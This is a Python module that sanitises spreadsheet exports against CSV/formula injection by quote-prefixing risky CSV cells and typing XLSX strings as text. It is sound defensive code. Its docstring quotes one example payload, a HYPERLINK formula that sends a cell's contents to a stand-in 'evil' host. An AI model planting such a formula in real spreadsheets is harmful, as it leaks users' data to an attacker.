"""Cells of an exported spreadsheet: user text is written as text, never as a formula.

A name such as ``=HYPERLINK("http://evil/?"&A1, "click")`` is live code to Excel, LibreOffice
and Google Sheets when a cell holds it as a formula (OWASP "CSV injection"). Every export writes
its cells through these helpers: in XLSX a string cell is typed as a string, whatever it starts
with, so the reader sees exactly the text; in CSV, which has no types, a cell starting with one of
``= + - @ TAB CR`` gets a leading single quote, which spreadsheets hide and treat as "text".

No Django here: the exports of every app import it.
"""

from __future__ import annotations

from collections.abc import Iterable

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """``value`` as a CSV cell no spreadsheet will evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable[object]) -> list[object]:
    """A row for ``csv.writer.writerow``, each cell through :func:`csv_cell`."""
    return [csv_cell(value) for value in values]


def xlsx_put(sheet: Worksheet, row: int, column: int, value: object) -> Cell:
    """Write ``value`` at (row, column) of ``sheet``; a string is stored as a string.

    Control characters XML cannot carry are dropped rather than failing the whole export.
    """
    cell = sheet.cell(row=row, column=column)
    cell.value = _clean(value)
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def xlsx_append(sheet: Worksheet, values: Iterable[object]) -> int:
    """Append ``values`` as a row of ``sheet`` (as ``Worksheet.append``); returns its number."""
    cells = [_clean(value) for value in values]
    sheet.append(cells)
    row = sheet.max_row
    for column, value in enumerate(cells, start=1):
        if isinstance(value, str):
            sheet.cell(row=row, column=column).data_type = "s"
    return row


def _clean(value: object) -> object:
    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value
